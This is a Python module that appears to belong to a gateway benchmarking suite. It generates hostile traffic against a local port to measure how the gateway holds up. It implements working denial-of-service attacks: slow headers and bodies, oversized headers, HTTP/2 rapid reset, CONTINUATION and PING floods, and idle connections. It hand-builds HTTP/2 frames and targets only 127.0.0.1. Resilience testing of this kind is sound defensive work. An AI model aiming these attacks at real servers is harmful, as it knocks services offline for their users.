"""Attackers for the part `hostile`: a program of its own on the core of the load generator, so that what they cost there is
taken from the load and not from the gateway.

    python -m measure.hostile KIND PORT HOST
"""

import selectors
import socket
import sys
import time

#: Connections at a time, steps in a second, and connections that are opened in a step: enough to matter, with little of the
#: core. A flood that fills the network link is another question.
CONNECTIONS, STEPS, OPENED = 100, 20, 5
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113 §4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(host: str) -> bytes:
    """A request without Huffman coding and without an index: `GET /` (RFC 7541, appendix A)."""
    return b"\x82\x86\x84\x01" + bytes([len(host)]) + host.encode()


def head(host: str, line: str, *more: str) -> bytes:
    return "".join(f"{text}\r\n" for text in (line, f"Host: {host}", *more)).encode()


def beginnings(kind: str, host: str) -> tuple[bytes, list[bytes]]:
    """The first bytes of a connection, and the piece of each further step."""
    cycle = range(1, 400, 2)
    match kind:
        case "slow-heads":
            return head(host, "GET / HTTP/1.1") + b"X-", [b"a"] * 10_000
        case "slow-bodies":
            return head(host, "POST /postern/verify HTTP/1.1", "Content-Length: 1000000") + b"\r\n", [b"a"] * 10_000
        case "large-heads":
            return b"", [head(host, "GET / HTTP/1.1", *(f"X-{number}: {'y' * 300}" for number in range(90))) + b"\r\n"]
        case "rapid-reset":
            reset = [frame(1, 5, stream, fields(host)) + frame(3, 0, stream, b"\0\0\0\x08") for stream in cycle]
            return PREFACE, [b"".join(reset[at:at + 10]) for at in range(0, len(reset), 10)]
        case "continuation":
            return PREFACE + frame(1, 0, 1, fields(host)), [frame(9, 0, 1, b"")] * 10_000
        case "pings":
            return PREFACE, [frame(6, 0, 0, b"01234567") * 20] * 10_000
        case "silence":
            return b"", [b""] * 10_000
    raise SystemExit(f"there is no attack {kind}")


class Connection:
    def __init__(self, port: int, begin: bytes, pieces: list[bytes]):
        self.socket = socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.2", 0))
        self.socket.setblocking(False)
        self._left = iter([begin, *pieces])

    def step(self) -> bool:
        """Sends the next piece; returns False when the connection is over."""
        piece = next(self._left, None)
        if piece is None:
            return False
        try:
            self.socket.send(piece)
        except BlockingIOError:
            return True
        except OSError:
            return False
        return True


def main() -> None:
    kind, port, host = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    begin, pieces = beginnings(kind, host)
    open_: list[Connection] = []
    with selectors.DefaultSelector() as answers:
        while True:
            ends = time.monotonic() + 1 / STEPS
            for connection in open_[:]:
                if not connection.step():
                    open_.remove(connection)
                    answers.unregister(connection.socket)
                    connection.socket.close()
            for _ in range(OPENED):
                if len(open_) < CONNECTIONS:
                    open_.append(Connection(port, begin, pieces))
                    answers.register(open_[-1].socket, selectors.EVENT_READ, open_[-1])
            for key, _ in answers.select(0):
                try:
                    over = not key.data.socket.recv(65536)
                except OSError:
                    over = True
                if over:
                    open_.remove(key.data)
                    answers.unregister(key.data.socket)
                    key.data.socket.close()
            time.sleep(max(0.0, ends - time.monotonic()))


if __name__ == "__main__":
    main()
